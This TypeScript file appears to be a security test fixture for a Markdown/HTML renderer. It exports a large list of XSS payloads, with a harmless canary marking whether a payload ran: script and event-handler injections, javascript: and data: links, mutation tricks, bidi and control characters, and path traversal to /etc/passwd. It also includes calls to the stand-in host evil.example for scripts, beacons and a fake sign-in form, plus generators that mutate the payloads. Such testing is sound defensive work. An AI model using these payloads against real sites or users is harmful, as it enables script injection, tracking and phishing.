/** Reports that a payload ran: each of them tries to call it. */
export const canary = '__ran'

const run = `window.${canary}=1`
const away = 'https://evil.example'

/** Strings that have been executed somewhere: from the OWASP cheat sheets, Markdown tricks, and invisible Unicode characters. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${away}/x.js"></script>`,
  `"><script>${run}</script>`,
  `'><svg onload=${run}>`,
  `<img src=x onerror="${run}">`,
  `<img src="${away}/pixel.gif">`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<img src="javascript:${run}">`,
  `<img src=x:x onerror&#61;${run}>`,
  `<img srcset="${away}/a 1x, ${away}/b 2x">`,
  `<svg><script>${run}</script></svg>`,
  `<svg/onload=${run}>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text x=20 y=20>click</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<iframe src="javascript:parent.${canary}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<iframe src="${away}"></iframe>`,
  `<object data="data:text/html,<script>opener.${canary}=1</script>"></object>`,
  `<embed src="${away}/x.swf">`,
  `<link rel=stylesheet href="${away}/x.css">`,
  `<style>@import "${away}/x.css"; body { background: url(${away}/b) }</style>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href="${away}/">`,
  `<form action="${away}"><button>Sign in again</button></form>`,
  `<form><button formaction="javascript:${run}">go</button></form>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<div style="background:url('${away}/s')">x</div>`,
  `<div style="position:fixed;inset:0">over everything</div>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<a href="javascript:${run}">a</a>`,
  `<a href="jav&#x09;ascript:${run}">a</a>`,
  `<a href="${away}" ping="${away}/ping">a</a>`,
  `\`\`\`html\n<img src=x onerror=${run}>\n\`\`\``,
  '```"><script>\ncode\n```',
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](java\tscript:${run})`,
  `[a](&#106;avascript:${run})`,
  `[a](\u0001javascript:${run})`,
  `[a](vbscript:${run})`,
  `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[a](blob:${away}/1)`,
  `[a](file:///etc/passwd)`,
  `[a](//evil.example/path)`,
  `[a](${away}"onmouseover="${run})`,
  `[a]( <javascript:${run}> "title")`,
  `[a][1]\n\n[1]: javascript:${run}`,
  `<javascript:${run}>`,
  `<https://evil.example/"onfocus="${run}>`,
  `![x](${away}/beacon.png)`,
  `![x](javascript:${run})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  `![x"onerror="${run}](x)`,
  `![](x) <!-- --><img src=x onerror=${run}>`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`,
  `- [ ] <img src=x onerror=${run}>\n- [x] <script>${run}</script>`,
  `# <svg onload=${run}>\n> <iframe src=javascript:${run}>`,
  '```mermaid\nsequenceDiagram\n  A->>B: <img src=x onerror=alert(1)>\n```',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] click A "javascript:alert(1)"\n```',
  `$$\\href{javascript:${run}}{x}$$ \\url{javascript:${run}}`,
  `\${${run}} {{constructor.constructor('${run}')()}} <%= ${run} %>`,
  `__proto__[${canary}]=1&constructor.prototype.${canary}=1`,
  `&lt;img src=x onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\x3cscript\\x3e${run}\\x3c/script\\x3e \\u003cimg src=x onerror=${run}\\u003e`,
  `\u001b]8;;javascript:${run}\u0007click\u001b]8;;\u0007 \u001b[31m<b onclick=${run}>red</b>\u001b[0m`,
  `\u202Etpircsavaj\u202C:${run} \u2066hidden\u2069 \u200Bzero\u200Bwidth\uFEFF`,
  `\u0000\u0008\u000B\u000C\u007F\u0085\u2028\u2029`,
  `\uD800 alone \uDFFF`,
  'Ｚａｌｇｏ Z̸̡̢̛͓̦͙̻̗̭͉͍̲̖̞̳̲̐̓̎͋̿̔͑̎͝a̷ ﷽𒐫⸻ 👩‍👩‍👧‍👦',
  `＜script＞${run}＜/script＞ ‹img onerror=${run}›`,
  `${'<b>'.repeat(400)}x`,
  `${'>'.repeat(300)} deep`,
  `${'>'.repeat(9000)} deeper`,
  `${'- '.repeat(500)}a`,
  `${'['.repeat(400)}a${'](javascript:x)'.repeat(400)}`,
  'W'.repeat(4000),
  `${'../'.repeat(80)}etc/passwd`,
  'C:\\..\\..\\<img src=x onerror=1>|"?*.txt'
]

/** Addresses that nothing of ours may lead to: no field for an address accepts them. */
export const urls: readonly string[] = [
  `javascript:${run}`,
  ` \tJaVa\nScRiPt:${run}//https://`,
  `data:text/html,<script>opener.${canary}=1</script>`,
  `vbscript:${run}`,
  `blob:${away}/1`,
  'file:///etc/passwd'
]

/** The hostile text for a field: it contains the field's name, so that a finding shows where it came from. */
export type Evil = (field: string) => string

/** Hostile texts, and the names of the fields that got them. `seed` picks what is tried besides the worst ones. */
export function evilWords(seed: number): { evil: Evil; fields: Set<string> } {
  const random = mulberry(seed)
  const short = payloads.filter(({ length }) => length < 300)
  const fields = new Set<string>()
  const evil = (field: string) => {
    fields.add(field)
    const more = Array.from({ length: 6 }, () => short[Math.floor(random() * short.length)])
    return [`${nameOf(field)} <img src=x onerror=${run}>`, ...worst, ...more].join('\n\n')
  }
  return { evil, fields }
}

/** The same for one segment of a path, which may be the only one shown. */
export function evilName(evil: Evil, field: string): string {
  return `${evilWord(evil, field)} [a](javascript:${run}) "onmouseover="${run}"`.replaceAll('/', '')
}

/** A short form, for places that show little text. */
export function evilWord(evil: Evil, field: string): string {
  const [first = ''] = evil(field).split('\n')
  return first
}

/** A text before and after a change, hostile as a whole and in the words inserted into a line. */
export function evilChange(evil: Evil, field: string): { oldText: string; newText: string } {
  return {
    oldText: `${evil(`${field}.old`)}\nkept here`,
    newText: `${evil(`${field}.new`)}\nkept ${evilWord(evil, `${field}.inserted`)} here\n`
  }
}

/** The same for a header, in ASCII. */
export const evilHeader = `A program <img src=x onerror=${run}>`

/** The name of a field, as its text contains it. */
export function nameOf(field: string): string {
  return `⟦${field}⟧`
}

const worst: readonly string[] = [
  `[a](javascript:${run}) ![x](${away}/beacon.png)`,
  `![<img src=x onerror=${run}>](${away}/alt.png) ![x](javascript:${run})`,
  `<svg onload=${run}><a href="javascript:${run}">a</a>`,
  `"><img src="${away}/pixel.gif" onload="${run}"><iframe srcdoc="<script>parent.${canary}=1</script>"></iframe>`,
  `<style>@import "${away}/x.css"</style><div style="background:url('${away}/s')">x</div>`,
  `A \`<img src=x onerror=${run}>\` in code`,
  // A code block: its language, a line without syntax tokens, and a line with a string token.
  `\`\`\`<img/src=x/onerror=${run}>\n<img src=x onerror=window.${canary}++>\n"<img src=x onerror=${run}>"\n\`\`\``
]

/** Any number of further texts, the same for the same seed: pieces of the payloads recombined, with letters lost, doubled and disguised. */
export function* mutations(seed: number): Generator<string> {
  const random = mulberry(seed)
  const below = (many: number) => Math.floor(random() * many)
  const pick = <Item>(items: readonly Item[]): Item => items[below(items.length)] as Item
  for (;;) {
    const pieces = Array.from({ length: 1 + below(3) }, () => slice(pick(payloads), below))
    let text = pieces.join(pick(joints))
    for (let changes = below(6); changes > 0; changes--) text = pick(changesOfText)(text, below(text.length + 1), pick(strange))
    yield text.slice(0, 2000)
  }
}

const joints = ['', ' ', '\n', '\n\n', '`', '**', '](', '"', "'", '>', '<', '|', '\\', '-->', ']]>', '&#10;']
const strange = [
  '\t',
  '\n',
  '\u0000',
  '\u0001',
  '\u200b',
  '\u202e',
  '"',
  "'",
  '`',
  '<',
  '>',
  '&',
  ';',
  '\\',
  '/',
  '<!--',
  '&Tab;',
  '&colon;',
  'ſ',
  'K'
]
const changesOfText: ((text: string, at: number, other: string) => string)[] = [
  (text, at) => text.slice(0, at) + text.slice(at + 1),
  (text, at, other) => text.slice(0, at) + other + text.slice(at),
  (text, at) => text.slice(0, at) + text.slice(at, at + 12).toUpperCase() + text.slice(at + 12),
  (text, at) => text.slice(0, at) + text.slice(at, at + 8) + text.slice(at),
  (text, at) => `${text.slice(0, at)}&#x${(text.codePointAt(at) ?? 60).toString(16)};${text.slice(at + 1)}`
]

function slice(text: string, below: (many: number) => number): string {
  if (below(3) === 0) return text
  const from = below(text.length)
  return text.slice(from, from + 1 + below(text.length - from))
}

function mulberry(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state)
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32
  }
}
